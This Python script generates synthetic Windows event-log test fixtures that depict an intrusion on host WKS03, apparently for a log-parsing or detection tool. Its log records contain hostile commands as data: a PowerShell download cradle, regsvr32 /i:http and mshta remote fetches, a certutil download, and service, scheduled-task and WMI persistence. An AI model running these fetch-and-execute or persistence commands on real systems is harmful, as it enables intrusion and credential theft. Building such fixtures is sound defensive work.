#!/usr/bin/env python3
# testdata/make-wks03.py -- wrote testdata/spec/wks03-*.spec: host WKS03,
# an intrusion told through the execution sources beside process starts.
# The specs are the source of truth and may be edited by hand; rerun only
# to rebuild them:  python3 testdata/make-wks03.py testdata/spec && make testdata
#
# 2024-03-07 on WKS03.corp.local (user CORP\bob):
#  09:01 powershell download cradle (4104, one part), a staged script
#        logged in three parts out of order (4104 1/3, 3/3, 2/3) that
#        starts regsvr32 /i:http (Sysmon 1, parent powershell);
#        a block of two parts of which only the first was logged;
#  09:05 certutil -urlcache: its DNS query (Sysmon 22) and the file it
#        wrote (Sysmon 11);
#  09:10 a service installed (4697) whose rundll32 action services.exe
#        starts; 09:12 another (7045, %COMSPEC% /c mshta http...);
#  09:15 schtasks registers a task (4698, ClientProcessId) whose action,
#        regsvr32 /i:http, the Schedule service starts at 09:20;
#  09:35 Windows PowerShell's 2.0 engine starts (400): a downgrade;
#  09:25 a WMI subscription (T1546.003): a filter on
#        __InstanceModificationEvent (Sysmon 19), a CommandLineEventConsumer
#        running regsvr32 /i:http (20), their binding (21) and
#        WMI-Activity's 5861; at 09:30 the consumer host (scrcons.exe)
#        starts the consumer's command;
#  09:31 the service's rundll32 opens lsass (Sysmon 10, GrantedAccess
#        0x1010, T1003.001); 09:32 the WMI consumer's regsvr32 creates a
#        thread in explorer (Sysmon 8, T1055);
#  09:33 rundll32 sets a Run key value to itself (Sysmon 13, T1547.001),
#        deletes a value (12) and renames a key (14, logged without its
#        ProcessGuid: tied by pid and time); 09:34 certutil's download
#        gets its Zone.Identifier stream (15); 09:35 powershell creates
#        its PSHost pipe (17) and regsvr32 connects to a beacon's pipe
#        (18); 09:36 an unsigned driver loads (Sysmon 6, system-wide).
import os, sys

OUT = sys.argv[1]
HOST = 'WKS03.corp.local'
DAY = '2024-03-07'
SID_BOB = 'S-1-5-21-1111111111-2222222222-3333333333-1205'


def guid(n):
    return '{C3D4E5F6-0307-65E9-0000-%012X}' % n


def sysmon(recid, t, eid, data):
    lines = ['record', 'provider sysmon', 'eventid %d' % eid,
             'time %sT%sZ' % (DAY, t), 'recordid %d' % recid, 'pid 2904',
             'tid 3100', 'channel Microsoft-Windows-Sysmon/Operational',
             'computer ' + HOST, 'user S-1-5-18']
    lines += ['data %s=%s' % kv for kv in data]
    return '\n'.join(lines) + '\n'


def proc(recid, t, g, pid, image, cmd, parent, user='CORP\\bob'):
    pg, ppid, pimage, pcmd = parent
    return sysmon(recid, t, 1, [
        ('RuleName', '-'), ('UtcTime', '%s %s' % (DAY, t[:12])),
        ('ProcessGuid', guid(g)), ('ProcessId', str(pid)),
        ('Image', image), ('FileVersion', '-'), ('Description', '-'),
        ('Product', '-'), ('Company', '-'),
        ('OriginalFileName', os.path.basename(image.replace('\\', '/'))),
        ('CommandLine', cmd), ('CurrentDirectory', 'C:\\Users\\bob\\'),
        ('User', user),
        ('LogonGuid', '{C3D4E5F6-1E2F-65E9-E195-050000000000}'),
        ('LogonId', '0x6b2f1'), ('TerminalSessionId', '1'),
        ('IntegrityLevel', 'Medium'), ('Hashes', 'SHA256=%064X' % g),
        ('ParentProcessGuid', guid(pg)), ('ParentProcessId', str(ppid)),
        ('ParentImage', pimage), ('ParentCommandLine', pcmd),
        ('ParentUser', user)])


SYS32 = 'C:\\Windows\\System32\\'
EXPLORER = (1, 3300, 'C:\\Windows\\explorer.exe', 'C:\\Windows\\Explorer.EXE')
PS_CMD = ('powershell.exe -nop -w hidden -c "IEX (New-Object '
          'Net.WebClient).DownloadString(\'http://203.0.113.9/a.ps1\')"')
PS = (2, 4410, SYS32 + 'WindowsPowerShell\\v1.0\\powershell.exe', PS_CMD)
SERVICES = (3, 680, SYS32 + 'services.exe', SYS32 + 'services.exe')
SVCHOST = (4, 1240, SYS32 + 'svchost.exe', SYS32 + 'svchost.exe -k netsvcs -p -s Schedule')


def write(name, text):
    with open(os.path.join(OUT, name), 'w') as f:
        f.write(text)


# ---- Sysmon: processes, DNS, file ----
s = ['# wks03-sysmon.spec -- Sysmon/Operational of WKS03: the processes of an\n'
     '# intrusion told by script blocks, services and tasks, with certutil\'s\n'
     '# DNS query (22) and file drop (11), a process access of lsass (10) and a\n'
     '# remote thread (8), registry events (12-14), a stream (15), pipes (17,\n'
     '# 18) and a driver (6).  Written by testdata/make-wks03.py.\n'
     'output wks03/wks03-sysmon.evtx\n\n']
r = 9001
s.append(proc(r, '09:00:00.1000000', EXPLORER[0], EXPLORER[1], EXPLORER[2],
              EXPLORER[3], (9, 3200, SYS32 + 'userinit.exe',
                            SYS32 + 'userinit.exe')))
r += 1
s.append(proc(r, '09:01:00.2000000', PS[0], PS[1], PS[2], PS[3], EXPLORER))
r += 1
s.append(sysmon(r, '09:01:00.9000000', 22, [
    ('RuleName', '-'), ('UtcTime', DAY + ' 09:01:00.900'),
    ('ProcessGuid', guid(PS[0])), ('ProcessId', str(PS[1])),
    ('QueryName', 'stage.example.test'), ('QueryStatus', '0'),
    ('QueryResults', '::ffff:203.0.113.9;'), ('Image', PS[2]),
    ('User', 'CORP\\bob')]))
r += 1
REG_CMD = ('"C:\\Windows\\System32\\regsvr32.exe" /s /n /u '
           '/i:http://203.0.113.9/p.sct scrobj.dll')
s.append(proc(r, '09:01:10.3000000', 5, 4520, SYS32 + 'regsvr32.exe',
              REG_CMD, PS))
r += 1
CU_CMD = ('certutil.exe -urlcache -split -f http://dl.example.test/p.exe '
          'C:\\Users\\Public\\p.exe')
s.append(proc(r, '09:05:00.4000000', 6, 4630, SYS32 + 'certutil.exe', CU_CMD,
              PS))
r += 1
s.append(sysmon(r, '09:05:00.6000000', 22, [
    ('RuleName', '-'), ('UtcTime', DAY + ' 09:05:00.600'),
    ('ProcessGuid', guid(6)), ('ProcessId', '4630'),
    ('QueryName', 'dl.example.test'), ('QueryStatus', '0'),
    ('QueryResults', '::ffff:203.0.113.10;'),
    ('Image', SYS32 + 'certutil.exe'), ('User', 'CORP\\bob')]))
r += 1
s.append(sysmon(r, '09:05:01.7000000', 11, [
    ('RuleName', '-'), ('UtcTime', DAY + ' 09:05:01.700'),
    ('ProcessGuid', guid(6)), ('ProcessId', '4630'),
    ('Image', SYS32 + 'certutil.exe'),
    ('TargetFilename', 'C:\\Users\\Public\\p.exe'),
    ('CreationUtcTime', DAY + ' 09:05:01.700'), ('User', 'CORP\\bob')]))
r += 1
s.append(proc(r, '09:10:03.1000000', 7, 4740, SYS32 + 'rundll32.exe',
              'C:\\Windows\\System32\\rundll32.exe C:\\Users\\Public\\u.dll,Start',
              SERVICES, 'NT AUTHORITY\\SYSTEM'))
r += 1
s.append(proc(r, '09:12:00.1000000', 8, 4850, SYS32 + 'cmd.exe',
              'C:\\Windows\\system32\\cmd.exe /c C:\\Windows\\System32\\mshta.exe '
              'http://203.0.113.9/s.hta', SERVICES, 'NT AUTHORITY\\SYSTEM'))
r += 1
s.append(proc(r, '09:15:00.1000000', 10, 5120, SYS32 + 'schtasks.exe',
              'schtasks.exe /create /tn \\Updater /xml C:\\Users\\Public\\t.xml',
              PS))
r += 1
s.append(proc(r, '09:20:00.1000000', 11, 5230, SYS32 + 'regsvr32.exe',
              'C:\\Windows\\System32\\regsvr32.exe /s /u '
              '/i:http://203.0.113.9/t.sct scrobj.dll', SVCHOST,
              'CORP\\bob'))

# ---- WMI persistence (T1546.003): filter, consumer, binding; the
# consumer host WmiPrvSE starts scrcons, and the consumer's command runs
# under it.  Sysmon logs the values quoted, with backslash escapes.
def wq(v):
    return ' "%s"' % v.replace('\\', '\\\\').replace('"', '\\"')


WMI_NAME = 'SysPerfMon'
WMI_QUERY = ('SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE '
             'TargetInstance ISA \'Win32_PerfFormattedData_PerfOS_System\' '
             'AND TargetInstance.SystemUpTime >= 240')
WMI_CMD = ('C:\\Windows\\System32\\regsvr32.exe /s /n /u '
           '/i:http://203.0.113.9/w.sct scrobj.dll')
WMI_SUB = '\\\\.\\ROOT\\subscription:'
r += 1
s.append(sysmon(r, '09:25:00.1000000', 19, [
    ('RuleName', '-'), ('EventType', 'WmiFilterEvent'),
    ('UtcTime', DAY + ' 09:25:00.100'), ('Operation', 'Created'),
    ('User', 'CORP\\bob'), ('EventNamespace', wq('root\\cimv2')),
    ('Name', wq(WMI_NAME)), ('Query', wq(WMI_QUERY))]))
r += 1
s.append(sysmon(r, '09:25:00.2000000', 20, [
    ('RuleName', '-'), ('EventType', 'WmiConsumerEvent'),
    ('UtcTime', DAY + ' 09:25:00.200'), ('Operation', 'Created'),
    ('User', 'CORP\\bob'), ('Name', wq(WMI_NAME)),
    ('Type', 'Command Line'), ('Destination', wq(WMI_CMD))]))
r += 1
s.append(sysmon(r, '09:25:00.3000000', 21, [
    ('RuleName', '-'), ('EventType', 'WmiBindingEvent'),
    ('UtcTime', DAY + ' 09:25:00.300'), ('Operation', 'Created'),
    ('User', 'CORP\\bob'),
    ('Consumer', wq(WMI_SUB + 'CommandLineEventConsumer.Name="%s"' % WMI_NAME)),
    ('Filter', wq(WMI_SUB + '__EventFilter.Name="%s"' % WMI_NAME))]))
WMIPRVSE = (12, 2210, SYS32 + 'wbem\\WmiPrvSE.exe',
            SYS32 + 'wbem\\wmiprvse.exe -secured -Embedding')
SCRCONS = (13, 5340, SYS32 + 'wbem\\scrcons.exe',
           SYS32 + 'wbem\\scrcons.exe -Embedding')
r += 1
s.append(proc(r, '09:30:00.0500000', SCRCONS[0], SCRCONS[1], SCRCONS[2],
              SCRCONS[3], WMIPRVSE, 'NT AUTHORITY\\SYSTEM'))
r += 1
s.append(proc(r, '09:30:00.1000000', 14, 5450, SYS32 + 'regsvr32.exe',
              WMI_CMD, SCRCONS, 'NT AUTHORITY\\SYSTEM'))

# ---- one process acting on another: source and target
LSASS = (15, 668, SYS32 + 'lsass.exe')
r += 1
s.append(sysmon(r, '09:31:00.1000000', 10, [
    ('RuleName', '-'), ('UtcTime', DAY + ' 09:31:00.100'),
    ('SourceProcessGUID', guid(7)), ('SourceProcessId', '4740'),
    ('SourceThreadId', '4744'), ('SourceImage', SYS32 + 'rundll32.exe'),
    ('TargetProcessGUID', guid(LSASS[0])),
    ('TargetProcessId', str(LSASS[1])), ('TargetImage', LSASS[2]),
    ('GrantedAccess', '0x1010'),
    ('CallTrace', 'C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|'
     'C:\\Users\\Public\\u.dll+1a2b'),
    ('SourceUser', 'NT AUTHORITY\\SYSTEM'),
    ('TargetUser', 'NT AUTHORITY\\SYSTEM')]))
r += 1
s.append(sysmon(r, '09:32:00.1000000', 8, [
    ('RuleName', '-'), ('UtcTime', DAY + ' 09:32:00.100'),
    ('SourceProcessGuid', guid(14)), ('SourceProcessId', '5450'),
    ('SourceImage', SYS32 + 'regsvr32.exe'),
    ('TargetProcessGuid', guid(EXPLORER[0])),
    ('TargetProcessId', str(EXPLORER[1])), ('TargetImage', EXPLORER[2]),
    ('NewThreadId', '6120'), ('StartAddress', '0x00000000029B0000'),
    ('StartModule', '-'), ('StartFunction', '-'),
    ('SourceUser', 'NT AUTHORITY\\SYSTEM'), ('TargetUser', 'CORP\\bob')]))

# ---- registry (12-14), stream (15), pipes (17, 18), driver (6)
RUN = ('HKU\\' + SID_BOB +
       '\\Software\\Microsoft\\Windows\\CurrentVersion\\Run')
RUNDLL = (7, 4740, SYS32 + 'rundll32.exe')


def reg(recid, t, eid, etype, g, pid, image, rest):
    d = [('RuleName', '-'), ('EventType', etype),
         ('UtcTime', DAY + ' ' + t[:12])]
    if g is not None:
        d.append(('ProcessGuid', guid(g)))
    return sysmon(recid, t, eid, d + [('ProcessId', str(pid)),
                                       ('Image', image)] + rest +
                  [('User', 'NT AUTHORITY\\SYSTEM')])


r += 1
s.append(reg(r, '09:33:00.1000000', 13, 'SetValue', *RUNDLL, [
    ('TargetObject', RUN + '\\Updater'),
    ('Details', SYS32 + 'rundll32.exe "C:\\Users\\Public\\u.dll",Start')]))
r += 1
s.append(reg(r, '09:33:01.1000000', 12, 'DeleteValue', *RUNDLL, [
    ('TargetObject', RUN + '\\OneDrive')]))
r += 1
s.append(reg(r, '09:33:02.1000000', 14, 'RenameKey', None, *RUNDLL[1:], [
    ('TargetObject', 'HKLM\\System\\CurrentControlSet\\Services\\WinDefend'),
    ('NewName', 'HKLM\\System\\CurrentControlSet\\Services\\WinDefend.old')]))
r += 1
s.append(sysmon(r, '09:34:00.1000000', 15, [
    ('RuleName', '-'), ('UtcTime', DAY + ' 09:34:00.100'),
    ('ProcessGuid', guid(6)), ('ProcessId', '4630'),
    ('Image', SYS32 + 'certutil.exe'),
    ('TargetFilename', 'C:\\Users\\Public\\p.exe:Zone.Identifier'),
    ('CreationUtcTime', DAY + ' 09:05:01.700'),
    ('Hash', 'SHA256=%064X,IMPHASH=%032X' % (0x15, 0)),
    ('User', 'CORP\\bob')]).replace(
        'data User=CORP', 'edata Contents=[ZoneTransfer]\\r\\nZoneId=3\\r\\n'
        'HostUrl=http://dl.example.test/p.exe\\r\\n\ndata User=CORP'))
r += 1
s.append(sysmon(r, '09:35:00.1000000', 17, [
    ('RuleName', '-'), ('EventType', 'CreatePipe'),
    ('UtcTime', DAY + ' 09:35:00.100'), ('ProcessGuid', guid(PS[0])),
    ('ProcessId', str(PS[1])),
    ('PipeName', '\\PSHost.133540000000000000.4410.DefaultAppDomain.powershell'),
    ('Image', PS[2]), ('User', 'CORP\\bob')]))
r += 1
s.append(sysmon(r, '09:35:01.1000000', 18, [
    ('RuleName', '-'), ('EventType', 'ConnectPipe'),
    ('UtcTime', DAY + ' 09:35:01.100'), ('ProcessGuid', guid(5)),
    ('ProcessId', '4520'), ('PipeName', '\\msagent_a1b2'),
    ('Image', SYS32 + 'regsvr32.exe'), ('User', 'CORP\\bob')]))
r += 1
s.append(sysmon(r, '09:36:00.1000000', 6, [
    ('RuleName', '-'), ('UtcTime', DAY + ' 09:36:00.100'),
    ('ImageLoaded', SYS32 + 'drivers\\wdfltr.sys'),
    ('Hashes', 'SHA1=%040X,MD5=%032X,SHA256=%064X,IMPHASH=%032X'
     % (6, 6, 6, 6)),
    ('Signed', 'false'), ('Signature', '-'),
    ('SignatureStatus', 'Unavailable')]))
write('wks03-sysmon.spec', '\n'.join(s))

# ---- PowerShell/Operational: script blocks ----
def sb(recid, t, num, tot, text, bid):
    return '\n'.join([
        'record', 'provider powershell', 'eventid 4104',
        'time %sT%sZ' % (DAY, t), 'recordid %d' % recid, 'pid 4410',
        'tid 4412', 'channel Microsoft-Windows-PowerShell/Operational',
        'computer ' + HOST, 'user ' + SID_BOB,
        'data MessageNumber=%d' % num, 'data MessageTotal=%d' % tot,
        'edata ScriptBlockText=' + text, 'data ScriptBlockId=' + bid,
        'data Path=']) + '\n'


B1 = '{7A1C0D2E-0307-4C55-9D1A-000000000001}'
B2 = '{7A1C0D2E-0307-4C55-9D1A-000000000002}'
B3 = '{7A1C0D2E-0307-4C55-9D1A-000000000003}'
p = ['# wks03-powershell.spec -- PowerShell/Operational of WKS03: script\n'
     '# blocks (4104): a cradle in one part, a staged script in three parts\n'
     '# logged out of order, a block whose second part is lost.\n'
     '# Written by testdata/make-wks03.py.\n'
     'output wks03/wks03-powershell.evtx\n\n']
p.append(sb(201, '09:01:00.5000000', 1, 1,
            "IEX (New-Object Net.WebClient).DownloadString("
            "'http://203.0.113.9/a.ps1')", B1))
p.append(sb(202, '09:01:02.1000000', 1, 3,
            'function Invoke-Stage {\\r\\n  $u = \'http://203.0.113.9/p.sct\'\\r\\n', B2))
p.append(sb(203, '09:01:02.1000000', 3, 3,
            '}\\r\\nInvoke-Stage\\r\\n', B2))
p.append(sb(204, '09:01:02.1000000', 2, 3,
            '  Start-Process regsvr32.exe -ArgumentList "/s /n /u /i:$u '
            'scrobj.dll"\\r\\n', B2))
p.append(sb(205, '09:04:59.1000000', 1, 2,
            "& certutil.exe -urlcache -split -f http://dl.example.test/p.exe "
            "C:\\\\Users\\\\Public\\\\p.exe; ", B3))
p.append('\n'.join([
    'record', 'provider powershell', 'eventid 4103',
    'time %sT09:01:00.6000000Z' % DAY, 'recordid 206', 'pid 4410',
    'tid 4412', 'channel Microsoft-Windows-PowerShell/Operational',
    'computer ' + HOST, 'user ' + SID_BOB,
    'edata ContextInfo=        Severity = Informational\\r\\n'
    '        Host Name = ConsoleHost\\r\\n'
    '        Host Application = ' + PS_CMD.replace('\\', '\\\\') +
    '\\r\\n        Command Name = Invoke-Expression\\r\\n',
    'data UserData=',
    'edata Payload=CommandInvocation(Invoke-Expression): '
    '"Invoke-Expression"\\r\\nParameterBinding(Invoke-Expression): '
    'name="Command"; value="(New-Object Net.WebClient).DownloadString('
    '\'http://203.0.113.9/a.ps1\')"\\r\\n']) + '\n')
write('wks03-powershell.spec', '\n'.join(p))

# ---- Windows PowerShell (classic): 400 engine start, 800 pipeline ----
DETAILS = ('\\tNewEngineState=Available\\r\\n\\tPreviousEngineState=None'
           '\\r\\n\\r\\n\\tSequenceNumber=13\\r\\n\\r\\n'
           '\\tHostName=ConsoleHost\\r\\n\\tHostVersion=5.1.19041.1\\r\\n'
           '\\tHostApplication=' + PS_CMD.replace('\\', '\\\\') +
           '\\r\\n\\tEngineVersion=5.1.19041.1\\r\\n\\tCommandLine=')
write('wks03-windows-powershell.spec', '\n'.join([
    '# wks03-windows-powershell.spec -- Windows PowerShell of WKS03: the\n'
    '# engine started for the cradle (400) and its pipeline (800), with\n'
    '# unnamed Data elements as Windows writes them; then the 2.0 engine\n'
    '# started (400, no HostApplication, as PowerShell 2 logs it): a\n'
    '# downgrade.  Written by testdata/make-wks03.py.\n'
    'output wks03/wks03-windows-powershell.evtx\n',
    'record', 'provider PowerShell', 'eventid 400', 'level 4', 'task 4',
    'keywords 0x80000000000000', 'qualifiers 0',
    'time %sT09:01:00.3000000Z' % DAY, 'recordid 501', 'pid 4410',
    'tid 4412', 'channel Windows PowerShell', 'computer ' + HOST, 'user -',
    'data =Available', 'data =None', 'edata =' + DETAILS, '',
    'record', 'eventid 800', 'level 4', 'task 8',
    'keywords 0x80000000000000', 'qualifiers 0',
    'time %sT09:01:00.7000000Z' % DAY, 'recordid 502',
    'edata =IEX (New-Object Net.WebClient).DownloadString('
    '\'http://203.0.113.9/a.ps1\')',
    'edata =\\tDetailSequence=1\\r\\n\\tDetailTotal=1\\r\\n\\r\\n'
    '\\tHostApplication=' + PS_CMD.replace('\\', '\\\\') +
    '\\r\\n\\tCommandLine=IEX (New-Object Net.WebClient).DownloadString('
    '\'http://203.0.113.9/a.ps1\')',
    'edata =CommandInvocation(Invoke-Expression): "Invoke-Expression"', '',
    'record', 'eventid 400', 'level 4', 'task 4',
    'keywords 0x80000000000000', 'qualifiers 0',
    'time %sT09:35:00.1000000Z' % DAY, 'recordid 503', 'pid 5560',
    'data =Available', 'data =None',
    'edata =\\tNewEngineState=Available\\r\\n\\tPreviousEngineState=None'
    '\\r\\n\\r\\n\\tSequenceNumber=9\\r\\n\\r\\n\\tHostName=ConsoleHost'
    '\\r\\n\\tHostVersion=2.0\\r\\n\\tHostId=5cbb33bf-acf7-47cc-9242-'
    '141cd0ba9f0c\\r\\n\\tEngineVersion=2.0\\r\\n\\tRunspaceId=\\r\\n'
    '\\tCommandLine='])
    + '\n')

# ---- Security: 4697 service, 4698 task ----
TASK_XML = ('<?xml version="1.0" encoding="UTF-16"?>'
            '<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/'
            '2004/02/mit/task"><RegistrationInfo><Author>CORP\\bob</Author>'
            '</RegistrationInfo><Triggers><LogonTrigger><Enabled>true'
            '</Enabled></LogonTrigger></Triggers><Principals><Principal '
            'id="Author"><UserId>' + SID_BOB + '</UserId></Principal>'
            '</Principals><Actions Context="Author"><Exec><Command>'
            'C:\\Windows\\System32\\regsvr32.exe</Command><Arguments>/s /u '
            '/i:http://203.0.113.9/t.sct scrobj.dll</Arguments></Exec>'
            '</Actions></Task>')
sec = ['# wks03-security.spec -- Security of WKS03: a service installed (4697)\n'
       '# and a scheduled task created (4698, with the task XML and the\n'
       '# registering process).  Written by testdata/make-wks03.py.\n'
       'output wks03/wks03-security.evtx\n\n']
sec.append('\n'.join([
    'record', 'provider security', 'eventid 4697',
    'time %sT09:10:01.0000000Z' % DAY, 'recordid 7701', 'pid 680',
    'tid 712', 'channel Security', 'computer ' + HOST, 'user -',
    'data SubjectUserSid=' + SID_BOB, 'data SubjectUserName=bob',
    'data SubjectDomainName=CORP', 'data SubjectLogonId=0x6b2f1',
    'data ServiceName=WinUpdSvc',
    'data ServiceFileName=C:\\Windows\\System32\\rundll32.exe '
    'C:\\Users\\Public\\u.dll,Start',
    'data ServiceType=0x10', 'data ServiceStartType=2',
    'data ServiceAccount=LocalSystem']) + '\n')
sec.append('\n'.join([
    'record', 'provider security', 'eventid 4698',
    'time %sT09:15:00.6000000Z' % DAY, 'recordid 7702', 'pid 680',
    'tid 716', 'channel Security', 'computer ' + HOST, 'user -',
    'data SubjectUserSid=' + SID_BOB, 'data SubjectUserName=bob',
    'data SubjectDomainName=CORP', 'data SubjectLogonId=0x6b2f1',
    'data TaskName=\\Updater', 'data TaskContent=' + TASK_XML,
    'data ClientProcessStartKey=2533274790396001',
    'data ClientProcessId=5120', 'data ParentProcessId=4410',
    'data RpcCallClientLocality=0', 'data FQDN=' + HOST]) + '\n')
write('wks03-security.spec', '\n'.join(sec))

# ---- System: 7045 ----
write('wks03-system.spec', '\n'.join([
    '# wks03-system.spec -- System of WKS03: a service installed (7045)\n'
    '# whose action runs mshta through %COMSPEC%.\n'
    '# Written by testdata/make-wks03.py.\n'
    'output wks03/wks03-system.evtx\n',
    'record', 'provider scm', 'eventid 7045', 'qualifiers 16384',
    'time %sT09:11:58.0000000Z' % DAY, 'recordid 3101', 'pid 680',
    'tid 2120', 'channel System', 'computer ' + HOST, 'user ' + SID_BOB,
    'data ServiceName=PrintHelper',
    'data ImagePath=%COMSPEC% /c C:\\Windows\\System32\\mshta.exe '
    'http://203.0.113.9/s.hta',
    'data ServiceType=user mode service', 'data StartType=demand start',
    'data AccountName=LocalSystem']) + '\n')

# ---- WMI-Activity/Operational: 5861, the permanent consumer bound ----
CAUSE = ('Binding EventFilter: \\n'
         'instance of __EventFilter\\n{\\n'
         '\\tCreatorSID = {1, 5, 0, 0, 0, 0, 0, 5, 21, 0, 0, 0};\\n'
         '\\tEventNamespace = "root\\\\\\\\cimv2";\\n'
         '\\tName = "' + WMI_NAME + '";\\n'
         '\\tQuery = "' + WMI_QUERY + '";\\n'
         '\\tQueryLanguage = "WQL";\\n};\\n'
         'Perm. Consumer: \\n'
         'instance of CommandLineEventConsumer\\n{\\n'
         '\\tCommandLineTemplate = "' +
         WMI_CMD.replace('\\', '\\\\\\\\') + '";\\n'
         '\\tCreatorSID = {1, 5, 0, 0, 0, 0, 0, 5, 21, 0, 0, 0};\\n'
         '\\tName = "' + WMI_NAME + '";\\n};\\n')
write('wks03-wmi.spec', '\n'.join([
    '# wks03-wmi.spec -- WMI-Activity/Operational of WKS03: the permanent\n'
    '# consumer bound to its filter (5861), with the MOF of both instances.\n'
    '# Written by testdata/make-wks03.py.\n'
    'output wks03/wks03-wmi.evtx\n',
    'record', 'provider Microsoft-Windows-WMI-Activity '
    '{1418EF04-B0B4-4623-BF7E-D74AB47BBDAA}', 'eventid 5861', 'level 0',
    'keywords 0x4000000000000000',
    'time %sT09:25:00.3500000Z' % DAY, 'recordid 801', 'pid 2210',
    'tid 2344', 'channel Microsoft-Windows-WMI-Activity/Operational',
    'computer ' + HOST, 'user S-1-5-18',
    'userdata Operation_ESStoConsumerBinding '
    'http://manifests.microsoft.com/win/2006/windows/WMI',
    'data Namespace=//./root/subscription', 'data ESS=' + WMI_NAME,
    'data CONSUMER=CommandLineEventConsumer="%s"' % WMI_NAME,
    'edata PossibleCause=' + CAUSE]) + '\n')
